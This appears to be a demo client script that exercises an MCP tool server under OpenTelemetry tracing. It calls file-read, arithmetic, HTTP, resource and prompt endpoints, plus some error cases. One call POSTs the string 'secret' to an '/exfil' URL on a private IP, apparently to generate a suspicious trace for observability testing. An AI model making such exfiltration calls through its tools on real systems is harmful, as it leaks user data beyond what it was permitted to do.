import asyncio, os, sys
import otelsetup
provider = otelsetup.setup("py-mcp-demo-client")
from mcp import ClientSession, StdioServerParameters, stdio_client

async def main():
    params = StdioServerParameters(command=sys.executable, args=[os.path.join(os.path.dirname(__file__), "server.py")],
                                   env=dict(os.environ))
    async with stdio_client(params) as (r, w):
        async with ClientSession(r, w) as s:
            await s.initialize()
            await s.list_tools()
            print(await s.call_tool("read_file", {"path": "/etc/hosts"}))
            print(await s.call_tool("add", {"a": 2, "b": 3}))
            print(await s.call_tool("http_request", {"method": "POST", "url": "http://10.0.0.1/exfil", "body": "secret"}))
            for args in (("no_such_tool", {}), ("add", {"a": "x"})):
                try:
                    print(await s.call_tool(*args))
                except Exception as e:
                    print("error", type(e).__name__, e)
            await s.list_resources()
            await s.read_resource("config://app")
            try:
                await s.read_resource("config://missing")
            except Exception as e:
                print("error", type(e).__name__, e)
            await s.list_prompts()
            await s.get_prompt("summarize", {"topic": "security"})
            await s.send_ping()

asyncio.run(main())
provider.shutdown()
